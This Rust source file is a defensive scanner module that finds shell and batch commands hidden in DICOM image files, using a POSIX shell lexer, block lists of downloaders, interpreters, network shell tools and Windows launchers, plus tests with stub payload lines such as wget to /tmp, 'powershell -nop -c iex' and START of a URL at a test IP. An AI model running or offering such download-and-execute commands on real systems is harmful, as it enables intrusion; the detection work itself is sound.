//! Shell and batch commands in a file that has no `#!`.
//!
//! `execve` refuses a file without a known header (ENOEXEC) and the calling shell then
//! runs it as a script itself; `sh file.dcm` does the same. Debian's `sh` (dash) drops NUL
//! bytes, prints "not found" for a line of binary garbage and goes on with the next line,
//! so a command on a line of its own in a text element runs — unless the bytes before it
//! break the parse: an unmatched `)`, a `;` with no command, an unterminated quote. Those
//! are checked here by a small lexer of the POSIX shell grammar that stops where dash
//! would stop (a syntax error ends a non-interactive shell), so that ordinary DICOM, whose
//! binary header usually breaks the parse, is not reported.
//!
//! A command counts only when the whole line it is on parses and its name is one an
//! attacker uses (a downloader, an interpreter, a path): words like `echo` or `cat` also
//! start clinical sentences ("echo shows...") and count only with shell syntax on the line.
//!
//! `cmd.exe` runs a `.bat` line by line and ignores lines it cannot run, so for batch a
//! line that starts with a Windows launcher is enough.

use pacsguard_events::escape_bytes;

/// Commands that do an attacker's work on their own: fetch, run code, open a shell.
const STRONG: [&[u8]; 38] = [
    b"curl",
    b"wget",
    b"bash",
    b"sh",
    b"dash",
    b"zsh",
    b"ksh",
    b"busybox",
    b"chmod",
    b"chown",
    b"python",
    b"python2",
    b"python3",
    b"perl",
    b"ruby",
    b"php",
    b"lua",
    b"nc",
    b"ncat",
    b"netcat",
    b"socat",
    b"telnet",
    b"openssl",
    b"base64",
    b"xxd",
    b"mkfifo",
    b"eval",
    b"exec",
    b"nohup",
    b"setsid",
    b"sudo",
    b"crontab",
    b"tftp",
    b"rm",
    b"shred",
    b"java",
    b"systemctl",
    b"dd",
];

/// Commands that are also English or clinical words ("echo shows", "node positive",
/// "source images"): they count only when the line has shell syntax (a redirect, a pipe,
/// a substitution, an absolute path argument).
const WEAK: [&[u8]; 18] = [
    b"echo", b"printf", b"cat", b"touch", b"id", b"whoami", b"uname", b"ls", b"cp", b"mv", b"kill",
    b"tar", b"ssh", b"scp", b"export", b"cd", b"node", b"source",
];

/// Windows launchers a batch line can start with (after an optional `@`).
const BATCH: [&[u8]; 16] = [
    b"powershell",
    b"pwsh",
    b"cmd",
    b"certutil",
    b"bitsadmin",
    b"rundll32",
    b"regsvr32",
    b"mshta",
    b"wscript",
    b"cscript",
    b"schtasks",
    b"wmic",
    b"msiexec",
    b"vssadmin",
    b"start",
    b"echo off",
];

/// Launchers that are also words of clinical English ("CMD (common bile duct)", "Start of
/// contrast injection"): a line starting with one counts only when what follows is
/// command syntax (see [`command_like_argument`]).
const AMBIGUOUS_BATCH: [&[u8]; 2] = [b"cmd", b"start"];

/// Whether `rest` (what follows an ambiguous launcher) reads as its argument in a batch
/// file rather than prose: `.exe`, a switch (`/c`, `/b`), a quoted title (`start ""`), or
/// a program or URL (`evil.exe`, `http://…`).
fn command_like_argument(rest: &[u8]) -> bool {
    if rest
        .get(..4)
        .is_some_and(|ext| ext.eq_ignore_ascii_case(b".exe"))
    {
        return true;
    }
    let rest = &rest[rest
        .iter()
        .position(|b| !matches!(b, b' ' | b'\t'))
        .unwrap_or(rest.len())..];
    let token_end = rest
        .iter()
        .position(|b| matches!(b, b' ' | b'\t' | b'\r' | b'\n'))
        .unwrap_or(rest.len());
    let token = &rest[..token_end];
    let lower: Vec<u8> = token.to_ascii_lowercase();
    let switch = token.len() >= 2 && token[0] == b'/' && token[1].is_ascii_alphabetic();
    let quoted = token.first() == Some(&b'"');
    let program = [
        ".exe", ".bat", ".cmd", ".ps1", ".vbs", ".js", ".hta", ".scr", ".lnk",
    ]
    .iter()
    .any(|ext| lower.ends_with(ext.as_bytes()));
    let url = lower.starts_with(b"http://") || lower.starts_with(b"https://");
    switch || quoted || program || url
}

/// A command a shell or `cmd.exe` would run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Command {
    pub offset: usize,
    /// `shell`, `batch` or `powershell`.
    pub interpreter: &'static str,
    pub detail: String,
}

/// The first command `sh` would run from `bytes`, if any.
pub fn find_shell_command(bytes: &[u8]) -> Option<Command> {
    let mut lexer = Lexer::default();
    let mut pending: Option<usize> = None;
    let mut i = 0usize;
    while i < bytes.len() {
        let b = bytes[i];
        i += 1;
        if b == 0 {
            continue; // dash drops NUL bytes
        }
        // Inside quotes only the closing quote (and a backslash in double quotes and
        // backquotes) matters: jump to it, so that long quoted binary costs a memchr.
        match lexer.quote {
            Quote::Single => {
                if b == b'\'' {
                    lexer.quote = Quote::None;
                } else {
                    i = memchr::memchr(b'\'', &bytes[i..]).map_or(bytes.len(), |n| i + n);
                }
                continue;
            }
            Quote::Double | Quote::Back => {
                let close = if lexer.quote == Quote::Double {
                    b'"'
                } else {
                    b'`'
                };
                if b == b'\\' {
                    i += 1;
                } else if b == close {
                    lexer.quote = Quote::None;
                } else {
                    i = memchr::memchr2(close, b'\\', &bytes[i..]).map_or(bytes.len(), |n| i + n);
                }
                continue;
            }
            Quote::None => {}
        }
        match b {
            b'\n' => {
                if lexer.end_word(bytes, &mut pending).is_err()
                    || lexer.redirect
                    || lexer.after_close_then_word
                {
                    return None;
                }
                lexer.promote_weak(&mut pending);
                if lexer.heredoc.is_some() {
                    i = skip_heredoc(bytes, i, lexer.heredoc.take().unwrap_or_default())?;
                }
                if !lexer.continued && lexer.depth == 0 {
                    if let Some(at) = pending.take() {
                        return Some(shell_command(bytes, at));
                    }
                    lexer.line_has_syntax = false;
                    lexer.weak_candidate = None;
                }
                lexer.command_start = true;
                lexer.after_close = false;
            }
            b' ' | b'\t' => {
                if lexer.end_word(bytes, &mut pending).is_err() {
                    return None;
                }
            }
            b'#' if lexer.word.is_none() => {
                // A comment runs to the end of the line.
                let rest = memchr::memchr(b'\n', &bytes[i..]).map_or(bytes.len(), |n| i + n);
                i = rest;
            }
            b'\'' | b'"' | b'`' => {
                lexer.start_word(i - 1);
                lexer.quote = match b {
                    b'\'' => Quote::Single,
                    b'"' => Quote::Double,
                    _ => {
                        lexer.line_has_syntax = true;
                        Quote::Back
                    }
                };
            }
            b'\\' => {
                lexer.start_word(i - 1);
                i += 1;
            }
            b';' | b'&' | b'|' => {
                if lexer.end_word(bytes, &mut pending).is_err() {
                    return None;
                }
                let doubled = bytes.get(i) == Some(&b) && b != b';';
                if doubled {
                    i += 1;
                }
                // `;`, `&&`, `|` with no command before them is a syntax error.
                if lexer.command_start || lexer.redirect {
                    return None;
                }
                lexer.line_has_syntax = true;
                lexer.command_start = true;
                lexer.after_close = false;
                // After `|`, `&&` or `||` the command goes on, on the next line if need be.
                lexer.continued = b == b'|' || doubled;
            }
            b'(' => {
                if lexer.word.is_some() || !lexer.command_start {
                    return None;
                }
                lexer.depth += 1;
            }
            b')' => {
                if lexer.end_word(bytes, &mut pending).is_err() {
                    return None;
                }
                if lexer.depth == 0 || lexer.command_start || lexer.redirect {
                    return None;
                }
                lexer.depth -= 1;
                lexer.after_close = true;
            }
            b'<' | b'>' => {
                if lexer.end_word(bytes, &mut pending).is_err() || lexer.redirect {
                    return None;
                }
                if b == b'<' && bytes.get(i) == Some(&b'<') {
                    i += 1;
                    lexer.heredoc = Some(Vec::new());
                } else if matches!(bytes.get(i), Some(b'>' | b'&' | b'|')) {
                    i += 1;
                }
                lexer.line_has_syntax = true;
                lexer.redirect = true;
            }
            _ => {
                if b == b'$' && bytes.get(i) == Some(&b'(') {
                    lexer.line_has_syntax = true;
                    // A command substitution: read as a word up to its `)`.
                    let close = memchr::memchr(b')', &bytes[i..])?;
                    lexer.start_word(i - 1);
                    i += close + 1;
                    continue;
                }
                lexer.start_word(i - 1);
            }
        }
    }
    // At the end of the file: whatever is still open is a syntax error.
    if lexer.quote != Quote::None
        || lexer.end_word(bytes, &mut pending).is_err()
        || lexer.redirect
        || lexer.continued
        || lexer.depth > 0
    {
        return None;
    }
    lexer.promote_weak(&mut pending);
    pending.map(|at| shell_command(bytes, at))
}

#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Quote {
    #[default]
    None,
    Single,
    Double,
    Back,
}

#[derive(Debug)]
struct Lexer {
    quote: Quote,
    /// Where the word being read started.
    word: Option<usize>,
    /// The next word is a command name (after a newline, `;`, `&&`, `(`...).
    command_start: bool,
    /// A redirection operator waits for its word.
    redirect: bool,
    /// `<<` waits for its delimiter word; then the body is skipped.
    heredoc: Option<Vec<u8>>,
    /// A line ended in `|`, `&&` or `||`: the command goes on on the next line.
    continued: bool,
    depth: usize,
    after_close: bool,
    after_close_then_word: bool,
    /// The line holds a redirect, a pipe, a separator or a substitution.
    line_has_syntax: bool,
    /// The command name of the line, and whether it is a weak one awaiting syntax.
    weak_candidate: Option<usize>,
}

impl Default for Lexer {
    fn default() -> Self {
        Lexer {
            quote: Quote::None,
            word: None,
            command_start: true,
            redirect: false,
            heredoc: None,
            continued: false,
            depth: 0,
            after_close: false,
            after_close_then_word: false,
            line_has_syntax: false,
            weak_candidate: None,
        }
    }
}

/// Keywords that open or continue a compound command; their commands run only if it
/// closes, which the depth count follows.
const OPENERS: [&[u8]; 6] = [b"if", b"while", b"until", b"for", b"case", b"{"];
const CLOSERS: [&[u8]; 4] = [b"fi", b"done", b"esac", b"}"];
const MIDDLES: [&[u8]; 5] = [b"then", b"do", b"else", b"elif", b"in"];

impl Lexer {
    fn start_word(&mut self, at: usize) {
        if self.word.is_none() {
            self.word = Some(at);
            if self.after_close {
                self.after_close_then_word = true;
            }
        }
    }

    /// Ends the word being read; a syntax error is `Err`.
    fn end_word(&mut self, bytes: &[u8], pending: &mut Option<usize>) -> Result<(), ()> {
        let Some(start) = self.word.take() else {
            return Ok(());
        };
        if self.after_close_then_word {
            return Err(()); // `(x) word`: "word unexpected"
        }
        let word: Vec<u8> = bytes[start..]
            .iter()
            .copied()
            .filter(|&b| b != 0)
            .take_while(|b| !matches!(b, b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>'))
            .take(64)
            .collect();
        if let Some(delimiter) = self.heredoc.as_mut()
            && delimiter.is_empty()
            && self.redirect
        {
            delimiter.extend(word.iter().filter(|b| !matches!(b, b'\'' | b'"' | b'\\')));
            self.redirect = false;
            return Ok(());
        }
        if self.redirect {
            self.redirect = false;
            return Ok(());
        }
        if self.command_start {
            self.continued = false;
            if is_assignment(&word) {
                return Ok(()); // `VAR=value cmd`: the command comes next
            }
            self.command_start = false;
            let word = word.as_slice();
            if OPENERS.contains(&word) {
                self.depth += 1;
                self.command_start = true;
            } else if CLOSERS.contains(&word) {
                if self.depth == 0 {
                    return Err(());
                }
                self.depth -= 1;
            } else if MIDDLES.contains(&word) {
                if self.depth == 0 {
                    return Err(());
                }
                self.command_start = true;
            } else if pending.is_none() {
                if is_strong(word) {
                    *pending = Some(start);
                } else if WEAK.contains(&word) {
                    self.weak_candidate = Some(start);
                }
            }
        } else if word.first() == Some(&b'/') && word.len() > 1 {
            self.line_has_syntax = true;
        }
        self.promote_weak(pending);
        Ok(())
    }

    /// A weak command name counts once its line shows shell syntax.
    fn promote_weak(&mut self, pending: &mut Option<usize>) {
        if self.line_has_syntax
            && pending.is_none()
            && let Some(at) = self.weak_candidate.take()
        {
            *pending = Some(at);
        }
    }
}

fn is_assignment(word: &[u8]) -> bool {
    let Some(eq) = word.iter().position(|&b| b == b'=') else {
        return false;
    };
    eq > 0
        && (word[0].is_ascii_alphabetic() || word[0] == b'_')
        && word[..eq]
            .iter()
            .all(|b| b.is_ascii_alphanumeric() || *b == b'_')
}

/// Where a program a shell runs by path lives (or is dropped).
const PROGRAM_ROOTS: [&[u8]; 16] = [
    b"./", b"../", b"/bin/", b"/sbin/", b"/usr/", b"/tmp/", b"/dev/", b"/etc/", b"/var/", b"/opt/",
    b"/home/", b"/root/", b"/lib", b"/proc/", b"/run/", b"/srv/",
];

fn is_strong(word: &[u8]) -> bool {
    if STRONG.contains(&word) {
        return true;
    }
    // A path to a program: `/bin/sh`, `/tmp/x`, `./payload`, all printable. It must start
    // at a directory that exists on a Unix system: a line of base64 (a PEM key, an
    // embedded JPEG's `/9j/4AAQ…`) starts with `/` too, and is no command.
    let path = PROGRAM_ROOTS.iter().any(|root| word.starts_with(root));
    path && word.len() > 2
        && word
            .iter()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'-'))
        && word[1..].iter().any(u8::is_ascii_alphanumeric)
}

/// Skips a here-document body from `at`: up to the line that is exactly `delimiter`.
fn skip_heredoc(bytes: &[u8], mut at: usize, delimiter: Vec<u8>) -> Option<usize> {
    if delimiter.is_empty() {
        return None;
    }
    while at < bytes.len() {
        let end = memchr::memchr(b'\n', &bytes[at..]).map_or(bytes.len(), |n| at + n);
        if bytes[at..end] == delimiter[..] {
            return Some((end + 1).min(bytes.len()));
        }
        at = end + 1;
    }
    None // an unterminated here-document: dash reads to the end and runs nothing after
}

fn shell_command(bytes: &[u8], at: usize) -> Command {
    Command {
        offset: at,
        interpreter: "shell",
        detail: format!(
            "a shell command (\"{}\") that sh runs when the file is executed or given to sh: nothing before it breaks the parse",
            line_excerpt(bytes, at)
        ),
    }
}

/// The first line that starts with a Windows launcher, as `cmd.exe` would run it.
pub fn find_batch_command(bytes: &[u8]) -> Option<Command> {
    for newline in memchr::memchr_iter(b'\n', bytes) {
        let line = &bytes[newline + 1..];
        let skip = line
            .iter()
            .position(|b| !matches!(b, b' ' | b'\t' | b'\r' | b'@'))
            .unwrap_or(line.len());
        let start = &line[skip..];
        for launcher in BATCH {
            let Some(head) = start.get(..launcher.len()) else {
                continue;
            };
            let next = start.get(launcher.len()).copied();
            let ends = matches!(next, Some(b' ' | b'\t' | b'\r' | b'\n')) || {
                // `powershell.exe`, `cmd.exe`
                start[launcher.len()..]
                    .get(..5)
                    .is_some_and(|ext| ext.eq_ignore_ascii_case(b".exe "))
            };
            if head.eq_ignore_ascii_case(launcher)
                && ends
                && (!AMBIGUOUS_BATCH.contains(&launcher)
                    || command_like_argument(&start[launcher.len()..]))
            {
                let offset = newline + 1 + skip;
                let interpreter = if launcher.starts_with(b"p") {
                    "powershell"
                } else {
                    "batch"
                };
                return Some(Command {
                    offset,
                    interpreter,
                    detail: format!(
                        "a Windows command line (\"{}\") that cmd.exe runs if the file is started as a batch file",
                        line_excerpt(bytes, offset)
                    ),
                });
            }
        }
    }
    None
}

fn line_excerpt(bytes: &[u8], at: usize) -> String {
    const SHOWN: usize = 60;
    let line = &bytes[at..];
    let end = line
        .iter()
        .position(|&b| b == b'\n')
        .unwrap_or(line.len())
        .min(SHOWN);
    escape_bytes(&line[..end])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_on_its_own_line_after_binary_bytes_is_found() {
        let file = b"\0\0\0DICM\x02\0\x01\0OB\0\0\nwget http://x/y -O /tmp/y\n\x01\x02";
        let command = find_shell_command(file).expect("found");
        assert_eq!(&file[command.offset..command.offset + 4], b"wget");
    }

    #[test]
    fn what_breaks_the_parse_before_the_command_hides_it() {
        for file in [
            &b"abc)\ncurl x\n"[..],
            b"x\n;curl x\n",
            b"it's\ncurl x\n",
            b"a(b\ncurl x\n",
            b"x\ncurl x |\n",
            b"x\ncurl x <<EOF\nrest\n",
        ] {
            assert_eq!(find_shell_command(file), None, "{file:?}");
        }
    }

    /// Review finding: report text raised batch and shell alerts.
    #[test]
    fn clinical_text_and_base64_are_not_commands() {
        for text in [
            &b"Findings:\r\nCMD (common bile duct) measures 6 mm.\r\n"[..],
            b"Patient tolerated procedure well.\r\nStart of contrast injection at 10:32.\r\n",
            b"x\nstart = time.time()\n",
            b"x\ncmd line options were reviewed\n",
        ] {
            assert_eq!(find_batch_command(text), None, "{text:?}");
        }
        for line in [
            &b"x\n/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8U\n"[..],
            b"x\n/+3kq0Yb8vW2mJd1a/Zx7QeR4tN6pLsFgHcUoIyAvEwK\n",
        ] {
            assert_eq!(find_shell_command(line), None, "{line:?}");
        }
        // The real thing still counts.
        for command in [
            &b"x\r\ncmd /c calc.exe\r\n"[..],
            b"x\r\nstart /b payload.exe\r\n",
            b"x\r\nstart \"\" evil.hta\r\n",
            b"x\r\nSTART http://203.0.113.9/x\r\n",
        ] {
            assert!(find_batch_command(command).is_some(), "{command:?}");
        }
        assert!(find_shell_command(b"x\n/tmp/payload --run\n").is_some());
    }

    #[test]
    fn clinical_words_need_shell_syntax() {
        assert_eq!(
            find_shell_command(b"x\necho shows normal LV function\n"),
            None
        );
        assert_eq!(find_shell_command(b"x\ncat scan ordered\n"), None);
        assert_eq!(
            find_shell_command(b"x\nnode positive, source images kept\n"),
            None
        );
        assert!(find_shell_command(b"x\necho pwned > /tmp/x\n").is_some());
        assert!(find_shell_command(b"x\ntouch /tmp/pwned\n").is_some());
        assert!(find_shell_command(b"x\nA=1 /tmp/run\n").is_some());
        assert!(find_shell_command(b"x\nif true; then\ncurl x\nfi\n").is_some());
        assert!(find_shell_command(b"x\ncat <<EOF\n)(\nEOF\ncurl x\n").is_some());
        // Quotes hide what is inside them, and a closed one lets the parse go on.
        assert_eq!(find_shell_command(b"x 'quoted\ncurl x\n"), None);
        assert!(find_shell_command(b"x 'quoted\n' y\ncurl x\n").is_some());
        assert!(find_shell_command(b"`\x01\x02\x03`\ncurl x\n").is_some());
        assert_eq!(find_shell_command(b"`\x01\x02\x03\ncurl x\n"), None);
    }

    #[test]
    fn batch_lines_start_with_a_launcher() {
        let found =
            find_batch_command(b"\0\0garbage\r\n@powershell -nop -c iex(x)\r\n").expect("found");
        assert_eq!(found.interpreter, "powershell");
        assert!(find_batch_command(b"x\r\ncmd.exe /c calc\r\n").is_some());
        assert_eq!(find_batch_command(b"x\nstarting the scan\n"), None);
    }
}
